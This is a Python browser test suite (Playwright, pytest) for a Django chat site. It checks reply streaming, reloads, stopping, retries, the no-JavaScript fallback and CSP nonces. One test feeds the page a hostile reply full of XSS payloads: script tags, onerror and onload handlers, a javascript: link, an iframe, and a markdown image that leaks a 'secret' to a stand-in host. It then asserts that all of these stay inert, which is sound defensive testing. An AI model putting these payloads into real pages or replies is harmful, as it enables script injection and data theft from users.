"""The chat in a real browser (Chromium through Playwright) against the site served by uvicorn
and the fake relay: what a user sees while a reply is written, reloaded, stopped, retried or
hostile, without JavaScript, and under the Content-Security-Policy (failure-cases.md 1-7, 19,
26-27, 30). Each test checks the page and then the database."""

import re
import time

import pytest
from django.contrib.sessions.models import Session
from playwright.sync_api import expect

from conversations.models import Reply
from tests.conftest import PASSWORD, wait_for_reply_sync

pytest_plugins = ["tests.browser_fixtures"]
pytestmark = [pytest.mark.browser]

REPLY = "article.reply"
CONTENT = "article.reply .reply-content"
# One round trip: the reply's aria-busy and its visible text (body and live tail).
READ_REPLY = """() => {
  const article = document.querySelector('article.reply');
  if (!article) return null;
  return [article.getAttribute('aria-busy'), article.querySelector('.reply-content').innerText];
}"""


def words(text: str) -> list[str]:
    return text.split()


def send(page, message: str) -> None:
    box = page.get_by_label("Message")
    box.fill(message)
    box.press("Enter")


def sample_while_busy(page, every_ms: int = 50) -> list[str]:
    """The reply's visible text, sampled until it is no longer busy (the final text last)."""
    samples = []
    for _ in range(600):
        state = page.evaluate(READ_REPLY)
        if state is not None:
            samples.append(state[1])
            if state[0] == "false":
                return samples
        page.wait_for_timeout(every_ms)
    raise AssertionError("the reply was still busy after 30 s")


def test_logging_in_through_the_form_lands_on_the_chat(browser_context, watched_page, alice):
    page = watched_page.page
    page.goto("/")
    expect(page).to_have_url(re.compile(r"/login/\?next=/$"))
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()

    expect(page).to_have_url(re.compile(r"/$"))
    expect(page.get_by_role("navigation", name="Conversations")).to_be_visible()
    expect(page.get_by_label("Message")).to_be_visible()
    assert watched_page.csp_violations() == []

    cookie = next(c for c in browser_context.cookies() if c["name"] == "sessionid")
    assert cookie["httpOnly"]
    session = Session.objects.get(session_key=cookie["value"]).get_decoded()
    assert session["_auth_user_id"] == str(alice.pk)


def test_a_reply_streams_in_steps_and_ends_as_markdown(chat_page, fake_upstream, alice):
    page = chat_page.page
    text = "Here is **bold** news: " + " ".join(f"w{i}" for i in range(78))
    fake_upstream.queue({"behaviour": "ok", "text": text, "delay_ms": 40})
    box = page.get_by_label("Message")

    box.fill("First line")
    box.press("Shift+Enter")
    box.press_sequentially("second line")
    expect(box).to_have_value("First line\nsecond line")
    assert page.locator(REPLY).count() == 0  # Shift+Enter did not send

    box.press("Enter")
    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "true")
    expect(box).to_have_value("")
    expect(box).to_be_focused()
    samples = sample_while_busy(page)

    visible = [s for s in dict.fromkeys(samples) if s.strip()]
    assert len(visible) >= 4, visible  # at least three growing steps before the final text
    lengths = [len(words(s)) for s in visible]
    assert lengths == sorted(lengths), visible
    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "false")
    expect(page.locator(f"{REPLY} .reply-body strong")).to_have_text("bold")
    assert words(page.locator(CONTENT).inner_text()) == words(text.replace("**", ""))
    expect(page.locator(".user-text")).to_have_text("First line\nsecond line")
    expect(page).to_have_url(re.compile(r"/c/[0-9a-f-]{36}/$"))

    reply = wait_for_reply_sync(Reply.objects.get(user=alice).pk)
    assert (reply.status, reply.text) == ("completed", text)
    assert reply.user_input == "First line\nsecond line"


def test_reloading_mid_reply_shows_the_text_so_far_then_continues(chat_page, fake_upstream, alice):
    page = chat_page.page
    full = [f"word{i}" for i in range(80)]
    fake_upstream.queue({"behaviour": "ok", "text": " ".join(full), "delay_ms": 40})
    send(page, "Count for me")
    page.wait_for_function(
        "() => (document.querySelector('article.reply .reply-content')?.innerText ?? '')"
        ".split(/\\s+/).filter(Boolean).length >= 8"
    )
    before = words(page.locator(CONTENT).inner_text())

    page.reload()
    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "true")
    after_reload = words(page.locator(CONTENT).inner_text())
    assert after_reload[: len(before)] == before  # the text so far, straight from the page
    samples = [words(s) for s in sample_while_busy(page)]

    for sample in [after_reload, *samples]:
        assert sample == full[: len(sample)], sample  # never a gap, never a repeat
    assert len({len(s) for s in samples}) >= 3  # it went on growing after the reload
    assert samples[-1] == full
    assert page.locator(REPLY).count() == 1
    assert words(page.locator(CONTENT).inner_text()) == full

    reply = wait_for_reply_sync(Reply.objects.get(user=alice).pk)
    assert Reply.objects.filter(user=alice).count() == 1
    assert (reply.status, reply.text) == ("completed", " ".join(full))


def test_stop_keeps_the_partial_reply_and_stores_it_cancelled(chat_page, fake_upstream, alice):
    page = chat_page.page
    fake_upstream.queue(
        {"behaviour": "stall_mid", "after_tokens": 5, "text": "one two three four five six seven"}
    )
    send(page, "Tell me a long story")
    expect(page.locator(CONTENT)).to_contain_text("five")
    page.get_by_role("button", name="Stop").click()

    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "false")
    expect(page.locator(REPLY)).to_contain_text("You stopped this reply.")
    assert words(page.locator(CONTENT).inner_text()) == ["one", "two", "three", "four", "five"]
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)

    reply = wait_for_reply_sync(Reply.objects.get(user=alice).pk)
    assert reply.status == "cancelled"
    assert reply.text == "one two three four five "


def test_a_failed_reply_says_so_plainly_and_retry_replaces_it(chat_page, fake_upstream, alice):
    page = chat_page.page
    fake_upstream.queue({"behaviour": "http_error", "status": 401})
    send(page, "Hello?")
    error = page.locator(f"{REPLY} .reply-error")
    expect(error).to_contain_text("did not accept this site's access key")
    sentence = page.evaluate(
        """() => { const p = document.querySelector('article.reply .reply-error').cloneNode(true);
                   p.querySelector('.reference')?.remove(); return p.innerText; }"""
    )
    assert "401" not in sentence
    for leak in ("Incorrect API key", "invalid_api_key", "invalid_request_error", "sk-test"):
        assert leak not in page.content()
    assert "{" not in page.locator(REPLY).inner_text()
    failed = wait_for_reply_sync(Reply.objects.get(user=alice).pk)
    assert failed.status == "failed"
    assert len(fake_upstream.requests) == 1  # a 401 is not retried by the server

    fake_upstream.queue({"behaviour": "ok", "text": "Back **online**.", "delay_ms": 20})
    page.get_by_role("button", name="Retry").click()
    expect(page.locator(f"#reply-{failed.pk}")).to_have_count(0)
    expect(page.locator(REPLY)).to_have_count(1)
    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "false")
    expect(page.locator(CONTENT)).to_have_text("Back online.")
    expect(page.get_by_role("button", name="Retry")).to_have_count(0)

    retried = Reply.objects.get(retry_of=failed)
    retried = wait_for_reply_sync(retried.pk)
    failed.refresh_from_db()
    assert (failed.status, failed.selected) == ("failed", False)
    assert (retried.status, retried.selected) == ("completed", True)
    assert retried.text == "Back **online**."
    page.reload()
    expect(page.locator(REPLY)).to_have_count(1)
    expect(page.locator(CONTENT)).to_have_text("Back online.")


SPLIT_PAYLOAD = "<script>window.__pwned=5</script>"
HOSTILE = "\n\n".join(
    [
        "Careful now.",
        "<script>window.__pwned=1</script>",
        '<img src=x onerror="window.__pwned=2">',
        "![x](http://127.0.0.2:9/leak.png?q=secret)",
        '<svg onload="window.__pwned=3">',
        "[click](javascript:window.__pwned=4)",
        '<iframe src="http://127.0.0.2:9/">',
        SPLIT_PAYLOAD,
        "```python\nprint('still here')\n```",
        "The end.",
    ]
)


def assert_inert(page) -> None:
    assert page.evaluate("() => typeof window.__pwned") == "undefined"
    body = page.locator(f"{REPLY} .reply-body")
    for tag in ("script", "img", "svg", "iframe", "a[href^='javascript' i]"):
        assert body.locator(tag).count() == 0, tag


def test_a_hostile_reply_is_inert_while_streaming_and_after_reload(
    chat_page, fake_upstream, asgi_server
):
    page = chat_page.page
    # 4-character deltas: "<scr" and "ipt>" of the split payload arrive apart.
    fake_upstream.queue({"behaviour": "ok", "text": HOSTILE, "delay_ms": 15, "piece_chars": 4})
    send(page, "Say something nasty")

    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "true")
    reloaded, deadline = False, time.monotonic() + 20
    while page.locator(REPLY).get_attribute("aria-busy") == "true":
        assert time.monotonic() < deadline, "the reply was still busy after 20 s"
        assert_inert(page)
        if not reloaded and "<svg" in page.locator(CONTENT).inner_text():
            page.reload()  # mid-reply: the text so far comes rendered by the page itself
            reloaded = True
        page.wait_for_timeout(50)
    assert reloaded
    expect(page.locator(CONTENT)).to_contain_text("The end.")
    for view in ("finished", "reloaded"):
        assert_inert(page)
        expect(page.locator(CONTENT)).to_contain_text("<script>window.__pwned=1</script>")
        expect(page.locator(CONTENT)).to_contain_text(SPLIT_PAYLOAD)
        expect(page.locator(".blocked-image")).to_have_text("Image not loaded: x")
        expect(page.locator(".codeblock button.copy-code")).to_have_text("Copy")  # our JS runs
        page.get_by_text("click", exact=True).click()
        assert_inert(page)
        if view == "finished":
            page.reload()
            expect(page.locator(REPLY)).to_have_attribute("aria-busy", "false")

    assert chat_page.foreign_requests(asgi_server.url) == []
    assert chat_page.csp_violations() == []


def test_after_the_first_send_the_tab_is_titled_like_the_conversation(chat_page, fake_upstream):
    page = chat_page.page
    fake_upstream.queue({"behaviour": "ok", "text": "Bring bread."})
    send(page, "Plan a picnic")
    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "false")
    expect(page.locator("#conversation-title")).to_have_text("Plan a picnic")
    expect(page.get_by_role("button", name="More actions for this conversation")).to_be_visible()
    expect(page).to_have_title(re.compile(r"^Plan a picnic"), timeout=2_000)


def test_without_javascript_a_plain_post_shows_the_finished_reply(
    new_browser_context, watch_page, fake_upstream, alice
):
    text = "Plain and " + "simple " * 20
    fake_upstream.queue({"behaviour": "ok", "text": text, "delay_ms": 100})
    page = watch_page(new_browser_context(java_script_enabled=False)).page
    page.goto("/login/")
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page).to_have_url(re.compile(r"/$"))
    page.get_by_label("Message").fill("No scripts here")
    page.get_by_role("button", name="Send").click()

    expect(page).to_have_url(re.compile(r"/c/[0-9a-f-]{36}/$"))
    expect(page.locator(".user-text")).to_have_text("No scripts here")
    assert '<meta http-equiv="refresh" content="2">' in page.content()  # still writing
    expect(page.locator(REPLY)).to_have_attribute("aria-busy", "false")  # refreshed into it
    expect(page.locator(CONTENT)).to_have_text(text.strip())
    expect(page.locator("meta[http-equiv='refresh']")).to_have_count(0)

    reply = Reply.objects.get(user=alice)
    assert (reply.status, reply.text, reply.user_input) == ("completed", text, "No scripts here")


@pytest.fixture
def staff_admin(django_user_model):
    return django_user_model.objects.create_superuser("root", password=PASSWORD)


PAGES = {"login": (None, "/login/"), "chat": ("alice", "/"), "admin": ("staff_admin", "/admin/")}


def open_page(name, request):
    """A watched page logged in as the page's user (a fresh context), and the page's path."""
    user, path = PAGES[name]
    context = request.getfixturevalue("browser_context")
    if user:
        request.getfixturevalue("browser_log_in")(context, request.getfixturevalue(user))
    return request.getfixturevalue("watch_page")(context), path


@pytest.mark.parametrize("name", PAGES)
def test_pages_load_without_csp_violations(name, request, asgi_server):
    watched, path = open_page(name, request)
    response = watched.page.goto(path)
    assert response.status == 200
    assert "img-src 'self' data:" in response.headers["content-security-policy"]
    watched.page.wait_for_load_state("networkidle")
    assert watched.csp_violations() == []
    assert watched.foreign_requests(asgi_server.url) == []


@pytest.mark.parametrize("name", PAGES)
def test_every_page_sends_a_fresh_csp_nonce(name, request):
    watched, path = open_page(name, request)
    nonces = []
    for _ in range(2):
        policy = watched.page.goto(path).headers["content-security-policy"]
        nonces += re.findall(r"script-src [^;]*'nonce-([^']+)'", policy) or [None]
    assert None not in nonces, f"no nonce in {policy!r}"
    assert nonces[0] != nonces[1]
